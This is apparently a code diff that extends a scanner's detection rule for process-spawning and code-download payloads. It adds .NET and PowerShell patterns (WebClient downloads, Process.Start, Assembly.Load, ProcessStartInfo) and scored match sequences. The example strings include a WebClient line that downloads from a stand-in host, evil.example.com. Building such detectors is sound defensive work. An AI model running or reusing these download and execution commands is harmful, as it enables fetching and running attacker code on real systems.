@@ -54,6 +54,10 @@ export const processCall: ValueRule = {
         'run(`',
         'usr.bin',
         'libc.',
+        'webclient',
+        'startinfo(',
+        'process]',
+        'assembly]',
       ],
     ],
   },
@@ -68,6 +72,10 @@ export const processCall: ValueRule = {
     'open("|id").read',
     '(lambda:0).__code__.__class__(0,0)',
     '(uiop:run-program "id")',
+    'new System.Net.WebClient().DownloadFile("http://evil.example.com/a","a")',
+    '[Diagnostics.Process]::Start("calc")',
+    '[Reflection.Assembly]::Load($bytes)',
+    'new ProcessStartInfo("cmd.exe")',
   ],
   lookalikes: [
     'The System.cmd function of Elixir starts a program',
@@ -77,6 +85,9 @@ export const processCall: ValueRule = {
     'Process.run and Process.start are alike',
     'const server = await Deno.readTextFile("./a.txt")',
     'open("|") fails',
+    'In C# I wrote new WebClient().DownloadFile(url, "a.zip") to get it',
+    'var client = new WebClient().DownloadString(url);',
+    'the [Process]::Start method of .NET',
   ],
 };
 
@@ -115,6 +126,18 @@ const sequences = compileSequences([
   { pattern: 'java . lang . system . getproperty|getenv|exit|load (', score: 86, inProse: 50 },
   { pattern: "java . type ( ' java|javax", score: 92 },
   { pattern: 'javaimporter ( *', score: 84, inProse: 50 },
+  {
+    pattern: "webclient ( ) . downloadfile|downloadstring|downloaddata|openread ( '",
+    score: 84,
+    inProse: 50,
+  },
+  { pattern: 'diagnostics . process ] : : start (', score: 90, inProse: 60 },
+  {
+    pattern: 'reflection . assembly ] : : load|loadfrom|loadfile|loadwithpartialname (',
+    score: 90,
+    inProse: 60,
+  },
+  { pattern: "processstartinfo ( ' cmd|powershell|sh|bash|/", score: 84, inProse: 50 },
   { pattern: 'gettype ( ) . assembly . *', score: 90 },
   {
     pattern: "gettype ( ' system . diagnostics|io|reflection|runtime|activator",
